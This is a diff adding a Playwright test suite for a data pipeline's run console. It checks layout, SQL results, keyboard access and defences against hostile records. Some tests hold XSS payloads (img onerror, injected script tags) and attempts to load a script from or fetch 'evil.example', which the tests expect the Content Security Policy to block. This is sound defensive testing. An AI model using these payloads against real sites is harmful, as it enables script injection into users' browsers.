@@ -1,0 +1,219 @@
+/** The console of a run that is over, in Chromium: each page, hostile records, the keyboard, two widths, dark and light. */
+import { readFileSync, rmSync } from "node:fs";
+import type { Browser, Page } from "playwright-core";
+import { type ServedConsole, serveConsole } from "../../../cli/console/serveConsole";
+import { systemClock } from "../../../local/cloud/clock";
+import { HOSTILE, type SavedRun, SHARD, savedRun } from "../../cli/support/savedRun";
+import { openBrowser, openPage, until } from "./browser";
+
+const PAGES = ["flow", "records", "unformatted", "sql", "runs", "health"];
+let browser: Browser;
+let saved: SavedRun;
+let served: ServedConsole;
+const ending = new AbortController();
+
+beforeAll(async () => {
+  browser = await openBrowser();
+  saved = savedRun();
+  served = await serveConsole(saved.run, { port: 0, token: "secret", clock: systemClock, signal: ending.signal });
+});
+afterAll(async () => {
+  await browser.close();
+  ending.abort(new Error("the test ends"));
+  await served.ended.catch(() => undefined);
+  rmSync(saved.work, { recursive: true, force: true });
+});
+afterEach(async () => {
+  for (const context of browser.contexts()) await context.close();
+});
+
+const at = (place: string) => `${served.address}#/${place}`;
+const texts = (page: Page, selector: string) => page.locator(selector).allInnerTexts();
+
+test.each(PAGES.flatMap((name) => [1280, 390].map((width) => [name, width] as const)))(
+  "the page %s fits %d pixels, in dark and light, without an error",
+  async (name, width) => {
+    for (const colorScheme of ["light", "dark"] as const) {
+      const { page, problems } = await openPage(browser, at(name), { width, colorScheme });
+      await page.waitForSelector("h1");
+      await until(page, "!document.querySelector('.loading')");
+      expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
+      expect(await page.locator("nav a[aria-current]").innerText()).toBe(await page.locator("h1").innerText());
+      expect(problems).toEqual([]);
+    }
+  },
+);
+
+test("without the token, the page shows no data, and how to get it", async () => {
+  const { page } = await openPage(browser, served.address.replace(/\?.*/, ""));
+  expect(await page.locator("[role=alert]").innerText()).toBe(
+    "console: the token is missing or of another run; open the address that streamlake prints",
+  );
+  expect(await page.locator("nav").count()).toBe(0);
+});
+
+test("a hostile record is shown as text: neither HTML nor terminal codes nor turned text act", async () => {
+  const { page, problems } = await openPage(browser, at(`unformatted/${encodeURIComponent(`${SHARD}/101/0`)}`));
+  const text = await page.locator("pre.text").innerText();
+  expect(text).toBe(HOSTILE.replace("\u001b", "\\x1b").replace("\u202E", "\\u{202e}"));
+  expect(await page.locator("pre.hex").innerText()).toContain("3c 69 6d 67 20 73 72 63");
+  expect(await page.locator("img").count()).toBe(0);
+  await page.goto(at("health"));
+  await page.waitForSelector("code.line");
+  expect((await texts(page, "code.line")).join("\n")).toContain("<img src=x onerror=");
+  expect(await page.locator("img").count()).toBe(0);
+  expect(await page.title()).toBe("Health – shop");
+  expect(problems).toEqual([]);
+});
+
+test("hostile values and column names of a result are text, too", async () => {
+  const { page, problems } = await openPage(browser, at("sql"));
+  const sql = `SELECT '<b onclick="x">v</b>' AS "<i>name</i>", 5 AS n UNION ALL SELECT '<script>document.title = "owned"</script>', 6`;
+  await page.fill("#sql", sql);
+  await page.click("button.main");
+  await page.waitForSelector(".scroll td");
+  expect(await texts(page, ".scroll th button")).toEqual(["<i>name</i>", "n"]);
+  expect((await texts(page, ".scroll td:first-child")).sort()).toEqual([
+    '<b onclick="x">v</b>',
+    '<script>document.title = "owned"</script>',
+  ]);
+  expect(await page.locator("main b, main i, main script").count()).toBe(0);
+  expect(await page.title()).toBe("SQL – shop");
+  expect(problems).toEqual([]);
+});
+
+test("the page can neither run another script, nor reach another host, nor take a string for HTML", async () => {
+  const { page, problems } = await openPage(browser, at("flow"));
+  const tries = [
+    `document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'owned'" }))`,
+    `document.createElement("script").src = "https://evil.example/a.js"`,
+    `document.body.innerHTML = "<img src=x onerror=alert(1)>"`,
+  ];
+  for (const one of tries) await expect(page.evaluate(one)).rejects.toThrow("This document requires 'Trusted");
+  await expect(page.evaluate(`fetch("https://evil.example/")`)).rejects.toThrow("Failed to fetch");
+  await expect(page.evaluate(`fetch("/lake-bucket/object")`)).rejects.toThrow("Failed to fetch");
+  await page.evaluate(`document.body.append(Object.assign(new Image(), { src: "https://evil.example/a.png" }))`);
+  expect(problems.filter((problem) => /^asks for/.test(problem))).toEqual([]);
+  expect(
+    problems.filter((problem) => /Content Security Policy directive: "(connect|img)-src/.test(problem)),
+  ).toHaveLength(3);
+  expect(await page.title()).toBe("Flow – shop");
+});
+
+test("the flow is drawn with its counts, and read as a table", async () => {
+  const { page } = await openPage(browser, at("flow"));
+  await page.waitForSelector("svg .node");
+  expect(
+    await page
+      .locator("svg .node")
+      .evaluateAll((nodes: { getAttribute(name: string): string | null }[]) =>
+        nodes.map((node) => node.getAttribute("aria-label")),
+      ),
+  ).toEqual([
+    "in, StreamIngest, 3 records; opens health",
+    "router, FormatRouter; opens records",
+    "Unformatted, records kept as bytes; opens unformatted",
+  ]);
+  expect(await texts(page, "tbody tr")).toEqual(["in\trouter\trecords\t3\t0", "router\tUnformatted\trecords\t2\t0"]);
+  await page.click("svg .node:last-child");
+  await page.waitForSelector("h1:text('Unformatted')");
+});
+
+test("a result is sorted, plotted and downloaded", async () => {
+  const { page, problems } = await openPage(browser, at("sql"));
+  expect(await page.inputValue("#sql")).toBe("SELECT * FROM (VALUES (2, 'b'), (10, 'a')) AS t (n, name)");
+  await page.focus("#sql");
+  await page.keyboard.press("Control+Enter");
+  await page.waitForSelector(".scroll td");
+  const rows = () => texts(page, ".scroll tbody tr");
+  expect(await rows()).toEqual(["2\tb", "10\ta"]);
+  await page.click(".scroll th:first-child button");
+  await page.click(".scroll th:first-child button");
+  expect(await rows()).toEqual(["10\ta", "2\tb"]);
+  expect(await page.getAttribute(".scroll th:first-child", "aria-sort")).toBe("descending");
+  const coloured = `(() => {
+    const canvas = document.querySelector(".chart canvas");
+    const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
+    let count = 0;
+    for (let at = 3; at < data.length; at += 4) if (data[at] > 200) count++;
+    return count;
+  })()`;
+  expect(await page.evaluate(coloured)).toBeGreaterThan(5000);
+  const download = page.waitForEvent("download");
+  await page.click("text=Download CSV");
+  expect(readFileSync(await (await download).path(), "utf8")).toBe("n,name\r\n2,b\r\n10,a\r\n");
+  expect(problems).toEqual([]);
+});
+
+test("an error of SQL is read out in its place", async () => {
+  const { page } = await openPage(browser, at("sql"));
+  await page.fill("#sql", "SELECT * FROM absent");
+  await page.click("button.main");
+  await page.waitForSelector("[role=status] .bad");
+  expect(await page.locator("[role=status] .bad").innerText()).toContain("TABLE_NOT_FOUND");
+});
+
+test("the keyboard reaches every page, and goes on in the new one", async () => {
+  const { page } = await openPage(browser, at("flow"));
+  const focused = () =>
+    page.evaluate("document.activeElement.tagName + ' ' + document.activeElement.innerText.slice(0, 12)");
+  await page.keyboard.press("Tab");
+  expect(await focused()).toBe("A Flow");
+  const visited: string[] = [];
+  for (let index = 1; index < PAGES.length; index++) {
+    await page
+      .locator("nav a")
+      .nth(index - 1)
+      .focus();
+    await page.keyboard.press("Tab");
+    await page.keyboard.press("Enter");
+    await until(page, "document.activeElement.tagName === 'MAIN'");
+    visited.push(await page.locator("h1").innerText());
+  }
+  expect(visited).toEqual(["Records", "Unformatted", "SQL", "Runs", "Health"]);
+});
+
+test("a record is searched for, followed to its bytes, and back", async () => {
+  const { page } = await openPage(browser, at("records"));
+  await page.fill("#subject", "order-4711");
+  await page.keyboard.press("Enter");
+  await page.waitForSelector(".steps");
+  expect(await page.locator(".steps").count()).toBe(3);
+  expect(await page.locator(".steps").first().innerText()).toContain("format json, 1 row");
+  await page.click("text=see its bytes >> nth=0");
+  await page.waitForSelector("pre.hex");
+  await page.click("text=Follow it");
+  await page.waitForSelector(".steps");
+});
+
+test("a failed execution has its states, times and error; nothing runs the hour of a run that is over", async () => {
+  const { page } = await openPage(browser, at("runs"));
+  await page.waitForSelector(".execution");
+  const text = await page.locator(".execution").innerText();
+  expect(text).toContain("hour-2026-11-20T10 failed");
+  expect(text).toContain("States.TaskFailed: out of memory");
+  expect(await texts(page, ".states tbody th")).toEqual(["Flatten failed\nout of memory"]);
+  expect(await page.isDisabled("button:text('Run the hour now')")).toBe(true);
+});
+
+test("health has the ledger, the denied call and a search of logs", async () => {
+  const { page } = await openPage(browser, at("health"));
+  await page.waitForSelector("article");
+  expect(await page.locator("article").innerText()).toContain("3 records in = 1 landed + 2 unformatted + 0 failed");
+  expect(await texts(page, "ul.bad li")).toEqual(["router-role may not s3:PutObject on arn:aws:s3:::lake/a"]);
+  await page.fill("label:has-text('Text') input", "FIRST");
+  await page.keyboard.press("Enter");
+  await until(page, "document.querySelectorAll('code.line').length === 1");
+  expect(await texts(page, "code.line")).toEqual(["first line"]);
+});
+
+test("every control has a name for screen readers, and headings begin with one of the first level", async () => {
+  for (const name of PAGES) {
+    const { page } = await openPage(browser, at(name));
+    await until(page, "!document.querySelector('.loading')");
+    const unnamed =
+      await page.evaluate(`[...document.querySelectorAll("button, select, input, textarea, a")].filter((one) =>
+      !(one.innerText ?? "").trim() && !one.textContent.trim() && !one.getAttribute("aria-label") && !(one.labels?.length)).length`);
+    expect([name, unnamed, await page.locator("h1").count()]).toEqual([name, 0, 1]);
+  }
+});
